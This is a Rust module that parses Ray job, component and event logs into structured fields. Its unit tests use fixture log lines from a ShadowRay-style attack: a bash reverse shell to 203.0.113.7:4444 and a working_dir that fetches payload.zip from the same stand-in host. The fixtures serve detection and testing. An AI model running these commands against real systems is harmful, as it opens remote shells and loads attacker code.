//! Ray: Python component logs, C++ component logs, job driver logs and
//! structured events. Definitions in `ray.toml`; the dashboard API
//! recognizer is in `ml_api.rs`.

use std::sync::LazyLock;

use regex::Regex;
use schema::{Value, f};

use super::util::{get, set_command};
use crate::steps::NamedStep;

static START: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"Starting job with submission_id: (\S+)").unwrap());
static EXITED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^Job (\S+) entrypoint command exited with code (-?\d+)").unwrap()
});
static ACTOR: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"actor_name=_ray_internal_job_actor_(\S+)").unwrap());
static RUNTIME_ENV: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#""working_dir": "([^"]+)""#).unwrap());
static DOWNLOAD: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^Downloading package from (\S+) to ").unwrap());
/// "Started a ray job X." / "Completed a ray job X with a status FAILED. ..."
/// -> (verb, job id, status).
fn job_event(msg: &str) -> Option<(&str, &str, Option<&str>)> {
    let (verb, rest) = msg.split_once(" a ray job ")?;
    if !matches!(verb, "Started" | "Completed" | "Stopped" | "Failed") {
        return None;
    }
    let end = rest.find(|c: char| c.is_whitespace()).unwrap_or(rest.len());
    let id = rest[..end].trim_end_matches('.');
    let status = rest[end..].strip_prefix(" with a status ").map(|s| {
        let e = s
            .find(|c: char| !c.is_ascii_alphanumeric() && c != '_')
            .unwrap_or(s.len());
        &s[..e]
    });
    (!id.is_empty()).then_some((verb, id, status.filter(|s| !s.is_empty())))
}

pub static RAY_LOG: NamedStep = NamedStep {
    name: "ray_log",
    doc: "Ray component messages: job submission ids, entrypoint exit codes, runtime_env working_dir URLs",
    paths: &[],
    find: None,
    run: |ctx| {
        let Some(msg) = get(&ctx.event, f::MESSAGE) else {
            return Ok(());
        };
        let ev = &mut ctx.event;
        if let Some(c) = START.captures(&msg) {
            ev.set_slice(f::MLOPS_JOB_ID, &msg, &c[1]);
            ev.set(f::EVENT_ACTION, "job-start");
        } else if let Some(c) = EXITED.captures(&msg) {
            ev.set_slice(f::MLOPS_JOB_ID, &msg, &c[1]);
            let code: i64 = c[2].parse().unwrap_or(-1);
            ev.set(f::PROCESS_EXIT_CODE, code);
            ev.set(f::EVENT_ACTION, "job-entrypoint-exit");
            ev.set(f::EVENT_TYPE, schema::value::str_array(&["end"]));
            ev.set(
                f::EVENT_OUTCOME,
                if code == 0 { "success" } else { "failure" },
            );
        } else if let Some(c) = ACTOR.captures(&msg) {
            ev.set_slice(f::MLOPS_JOB_ID, &msg, &c[1]);
        }
        if msg.contains("runtime env") || msg.contains("Runtime env") {
            if let Some(c) = RUNTIME_ENV.captures(&msg) {
                ev.set_slice(f::MLOPS_JOB_WORKING_DIR, &msg, &c[1]);
            }
        } else if let Some(c) = DOWNLOAD.captures(&msg) {
            ev.set_slice(f::MLOPS_JOB_WORKING_DIR, &msg, &c[1]);
        }
        Ok(())
    },
};

pub static RAY_ENTRYPOINT: NamedStep = NamedStep {
    name: "ray_entrypoint",
    doc: "Ray job entrypoint: process.command_line and process.name from mlops.job.entrypoint",
    paths: &[],
    find: None,
    run: |ctx| {
        if let Some(cmd) = get(&ctx.event, f::MLOPS_JOB_ENTRYPOINT) {
            set_command(&mut ctx.event, &cmd);
        }
        Ok(())
    },
};

pub static RAY_EVENT: NamedStep = NamedStep {
    name: "ray_event",
    doc: "Ray structured events: log.level from severity, job start/completion with status",
    paths: &["ray.event.severity"],
    find: None,
    run: |ctx| {
        if let Some(Value::Str(sev)) = ctx.event.get("ray.event.severity") {
            let level = crate::steps::normalize_level(sev);
            ctx.event.set(f::LOG_LEVEL, level);
        }
        let Some(msg) = get(&ctx.event, f::MESSAGE) else {
            return Ok(());
        };
        if let Some((verb, id, status)) = job_event(&msg) {
            ctx.event.set_default(f::MLOPS_JOB_ID, msg.slice_ref(id));
            let (action, ty) = match verb {
                "Started" => ("job-started", "start"),
                _ => ("job-completed", "end"),
            };
            ctx.event.set(f::EVENT_ACTION, action);
            ctx.event.set(f::EVENT_TYPE, ty);
            if let Some(status) = status {
                let status = msg.slice_ref(status);
                ctx.event.set(
                    f::EVENT_OUTCOME,
                    if &*status == "SUCCEEDED" {
                        "success"
                    } else {
                        "failure"
                    },
                );
                ctx.event.set(f::MLOPS_JOB_STATUS, status);
            }
        } else {
            ctx.event
                .set_default(f::EVENT_TYPE, schema::value::str_array(&["info"]));
        }
        Ok(())
    },
};

#[cfg(test)]
mod tests {
    use super::super::testing::{parse, text};

    #[test]
    fn job_event_messages() {
        assert_eq!(
            super::job_event("Started a ray job train-1."),
            Some(("Started", "train-1", None))
        );
        assert_eq!(
            super::job_event(
                "Completed a ray job x with a status FAILED. Job supervisor actor died: y"
            ),
            Some(("Completed", "x", Some("FAILED")))
        );
        assert_eq!(
            super::job_event("Completed a ray job x with a status SUCCEEDED."),
            Some(("Completed", "x", Some("SUCCEEDED")))
        );
        assert_eq!(super::job_event("Something about a ray job"), None);
    }

    #[test]
    fn dashboard_access() {
        let e = parse("ray.log", "2026-11-30 00:39:46,605\tINFO web_log.py:229 -- 127.0.0.1 [30/Nov/2026:00:39:46 +0000] 'POST /api/jobs/ HTTP/1.1' 200 228 bytes 18059 us '-' 'python-requests/2.28.1'").unwrap();
        assert_eq!(text(&e, "event.dataset"), "ray.dashboard");
        assert_eq!(text(&e, "mlops.api"), "jobs/submit");
        assert_eq!(text(&e, "event.duration"), "18059000");
        assert_eq!(text(&e, "http.response.body.bytes"), "228");
        assert_eq!(text(&e, "user_agent.original"), "python-requests/2.28.1");
        assert_eq!(text(&e, "@timestamp"), "2026-11-30T00:39:46.605Z");
    }

    #[test]
    fn component_messages() {
        let e = parse("ray.log", "2026-11-30 00:39:46,590\tINFO job_manager.py:533 -- Starting job with submission_id: shadowray-curl-sh").unwrap();
        assert_eq!(text(&e, "mlops.job.id"), "shadowray-curl-sh");
        assert_eq!(text(&e, "log.origin.file.name"), "job_manager.py");
        assert_eq!(text(&e, "log.origin.file.line"), "533");
        let e = parse("ray.log", r#"2026-11-30 00:40:15,278	INFO runtime_env_agent.py:543 -- Creating runtime env: {"env_vars": {}, "working_dir": "http://203.0.113.7/payload.zip"} with timeout 600 "#).unwrap();
        assert_eq!(
            text(&e, "mlops.job.working_dir"),
            "http://203.0.113.7/payload.zip"
        );
        assert!(parse("ray.log", "2026-11-30 00:40:15,278 INFO x.py:1 -- no tab").is_err());
    }

    #[test]
    fn core_and_driver_and_events() {
        let e = parse("ray.core", "[2026-11-30 00:39:56,898 I 649 649] core_worker_process.cc:872: Constructing CoreWorkerProcess. pid: 649").unwrap();
        assert_eq!(text(&e, "process.pid"), "649");
        assert_eq!(text(&e, "log.level"), "info");
        assert!(e.get("process.name").is_none());
        let e = parse(
            "ray.core",
            "[2026-11-30 00:39:16,576 W 302 302] (raylet) main.cc:283: x",
        )
        .unwrap();
        assert_eq!(text(&e, "process.name"), "raylet");
        assert_eq!(text(&e, "log.level"), "warning");
        let e = parse("ray.job_driver", "Running entrypoint for job shadowray-revshell: echo 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'").unwrap();
        assert_eq!(
            text(&e, "mlops.job.entrypoint"),
            "echo 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'"
        );
        assert_eq!(text(&e, "process.name"), "echo");
        let e = parse("ray.event", r#"{"event_id": "88FB", "source_type": "JOBS", "source_hostname": "vm", "source_pid": 326, "message": "Completed a ray job train-resnet-0001 with a status FAILED.", "timestamp": "1795999177", "custom_fields": {"submission_id": "train-resnet-0001"}, "severity": "INFO", "label": ""}"#).unwrap();
        assert_eq!(text(&e, "mlops.job.status"), "FAILED");
        assert_eq!(text(&e, "event.outcome"), "failure");
        assert_eq!(text(&e, "@timestamp"), "2026-11-30T00:39:37Z");
        assert_eq!(text(&e, "ray.event.source_type"), "JOBS");
        assert!(
            parse("ray.event", r#"{"event_id": "x", "source_type": "JOBS""#).is_err(),
            "truncated JSON"
        );
    }
}
